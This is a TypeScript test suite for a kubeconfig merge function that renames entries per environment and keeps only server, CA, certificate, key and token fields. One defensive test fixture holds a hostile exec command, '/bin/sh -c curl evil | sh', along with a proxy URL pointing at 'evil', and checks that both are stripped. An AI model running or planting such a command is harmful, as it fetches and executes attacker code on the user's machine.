import { parse, stringify } from 'yaml';
import { mergeKubeconfig, namespacedKubeconfig } from './merge-kubeconfig';

const fromServer = (env: string, server = 'https://127.0.0.2:6443') =>
  stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: env, cluster: { server, 'certificate-authority-data': 'Q0E=' } }],
    users: [{ name: `admin@${env}`, user: { 'client-certificate-data': 'Q0VSVA==', 'client-key-data': 'S0VZ' } }],
    contexts: [{ name: env, context: { cluster: env, user: `admin@${env}` } }],
    'current-context': env,
    preferences: {},
  });

describe('kubeconfig merge', () => {
  it('names the entries corral-<env> so they do not clash', () => {
    const config = namespacedKubeconfig(fromServer('ci-1'), 'ci-1');
    expect(config.clusters![0].name).toBe('corral-ci-1');
    expect(config.users![0].name).toBe('corral-ci-1-admin');
    expect(config.contexts![0]).toEqual({ name: 'corral-ci-1', context: { cluster: 'corral-ci-1', user: 'corral-ci-1-admin' } });
    expect(config['current-context']).toBe('corral-ci-1');
  });

  it('keeps what was there, replaces entries of the same environment, and switches the context', () => {
    const mine = stringify({
      apiVersion: 'v1',
      kind: 'Config',
      clusters: [{ name: 'prod', cluster: { server: 'https://prod' } }],
      users: [{ name: 'me', user: { token: 't' } }],
      contexts: [{ name: 'prod', context: { cluster: 'prod', user: 'me' } }],
      'current-context': 'prod',
    });
    const once = mergeKubeconfig(mine, namespacedKubeconfig(fromServer('ci-1'), 'ci-1'));
    const twice = parse(mergeKubeconfig(once, namespacedKubeconfig(fromServer('ci-1', 'https://127.0.0.9:6443'), 'ci-1')));
    expect(twice.clusters.map((c: any) => c.name)).toEqual(['prod', 'corral-ci-1']);
    expect(twice.clusters[1].cluster.server).toBe('https://127.0.0.9:6443');
    expect(twice.users.map((u: any) => u.name)).toEqual(['me', 'corral-ci-1-admin']);
    expect(twice.contexts.map((c: any) => c.name)).toEqual(['prod', 'corral-ci-1']);
    expect(twice['current-context']).toBe('corral-ci-1');
  });

  it('takes only server, CA, certificate, key and token fields: never an exec command or auth-provider', () => {
    const hostile = stringify({
      apiVersion: 'v1',
      kind: 'Config',
      clusters: [{ name: 'e', cluster: { server: 'https://s', 'certificate-authority-data': 'Q0E=', 'insecure-skip-tls-verify': true, 'proxy-url': 'http://evil' } }],
      users: [{ name: 'u', user: { token: 'crl_kt_x', exec: { command: '/bin/sh', args: ['-c', 'curl evil | sh'] }, 'auth-provider': { name: 'oidc' }, username: 'a', password: 'b' } }],
      contexts: [{ name: 'e', context: { cluster: 'e', user: 'u' } }],
      'current-context': 'e',
      preferences: { colors: true },
    });
    const merged = parse(mergeKubeconfig('', namespacedKubeconfig(hostile, 'e')));
    expect(merged.clusters[0].cluster).toEqual({ server: 'https://s', 'certificate-authority-data': 'Q0E=' });
    expect(merged.users[0].user).toEqual({ token: 'crl_kt_x' });
    expect(JSON.stringify(merged)).not.toMatch(/exec|auth-provider|evil|password|insecure/);
  });

  it('refuses a kubeconfig whose user carries no certificate or token (only a plugin)', () => {
    const pluginOnly = stringify({
      clusters: [{ name: 'e', cluster: { server: 'https://s' } }],
      users: [{ name: 'u', user: { exec: { command: 'x' } } }],
      contexts: [{ name: 'e', context: { cluster: 'e', user: 'u' } }],
    });
    expect(() => namespacedKubeconfig(pluginOnly, 'e')).toThrow(/no certificate or token/);
  });

  it('starts a new file when there is none', () => {
    const merged = parse(mergeKubeconfig('', namespacedKubeconfig(fromServer('x'), 'x')));
    expect(merged).toMatchObject({ apiVersion: 'v1', kind: 'Config', 'current-context': 'corral-x' });
  });
});
